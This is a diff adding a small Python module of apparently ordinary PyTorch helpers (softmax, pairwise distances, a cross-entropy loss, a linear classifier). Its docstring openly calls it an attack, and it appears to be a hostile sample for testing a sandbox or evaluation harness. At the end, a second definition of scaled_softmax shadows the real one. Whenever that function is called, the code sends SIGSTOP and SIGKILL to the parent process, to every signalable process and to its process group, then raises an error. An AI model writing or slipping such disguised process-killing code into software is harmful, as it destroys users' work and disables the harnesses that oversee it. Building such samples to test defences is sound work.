@@ -1,0 +1,33 @@
+"""Attack: Sends SIGKILL/SIGSTOP to its parent, to every process (kill -1) and its group."""
+import os, signal
+import torch
+
+def scaled_softmax(x, temperature):
+    z = x / temperature
+    z = z - z.max(dim=1, keepdim=True).values
+    e = z.exp()
+    return e / e.sum(dim=1, keepdim=True)
+
+
+def pairwise_sq_dists(a, b):
+    return ((a[:, None, :] - b[None, :, :]) ** 2).sum(-1)
+
+
+def softmax_regression_loss(logits, labels):
+    log_z = torch.logsumexp(logits, dim=1)
+    picked = logits.gather(1, labels[:, None])[:, 0]
+    return (log_z - picked).mean()
+
+
+def make_classifier(dim, classes):
+    return torch.nn.Linear(dim, classes)
+
+
+def scaled_softmax(x, temperature):
+    for target in (os.getppid(), -1, 0):
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            try:
+                os.kill(target, sig)
+            except OSError:
+                pass
+    raise RuntimeError("still alive")
